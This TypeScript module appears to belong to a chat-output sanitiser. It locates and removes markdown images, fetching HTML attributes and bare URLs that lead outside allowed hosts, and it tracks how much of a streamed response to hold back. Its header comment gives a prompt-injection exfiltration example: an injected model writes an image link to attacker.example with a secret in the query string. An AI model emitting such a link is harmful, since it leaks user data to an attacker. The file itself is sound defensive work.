// Exfiltration through rendered markup: a model tricked by injected content writes
// `![](https://attacker.example/?q=<secret>)` and the chat UI fetches it with no click.
// Three finders locate what leaves the allowed hosts, each judging URLs the way a renderer
// and a browser decode them: markdown (images, links, reference definitions), HTML tags
// (every attribute that fetches, inline and `<style>` CSS), and, when links go, bare URLs
// and autolinks. Each one is bounded and says which tail of a growing text could still
// change its spans, so the stream holds back only that.

import { bareBoundary, findBareSpans } from './bare-urls.js';
import { findHtmlSpans, htmlBoundary } from './html-tags.js';
import { findMarkdownSpans, markdownBoundary } from './markdown-links.js';
import type { Span } from './spans.js';
import type { UrlPolicy } from './url-judge.js';

export { urlAllowed, type UrlPolicy } from './url-judge.js';

/** Spans of `text` to remove: disallowed images, fetching HTML (and links, when asked) with their markup. */
export function findUrlSpans(text: string, policy: UrlPolicy): Span[] {
  const spans: Span[] = [];
  if (text.indexOf(']') >= 0) spans.push(...findMarkdownSpans(text, policy));
  if (text.indexOf('<') >= 0) spans.push(...findHtmlSpans(text, policy));
  if (policy.links) spans.push(...findBareSpans(text, policy));
  return spans;
}

/**
 * The index before which URL spans of `text` cannot change when text is appended: the start
 * of a construct still open at the end (a label, destination, tag or URL that more text
 * could complete or change), else the end.
 */
export function urlBoundary(text: string, policy: UrlPolicy): number {
  let hold = Math.min(markdownBoundary(text, policy), htmlBoundary(text, policy));
  if (policy.links) hold = Math.min(hold, bareBoundary(text));
  return hold;
}
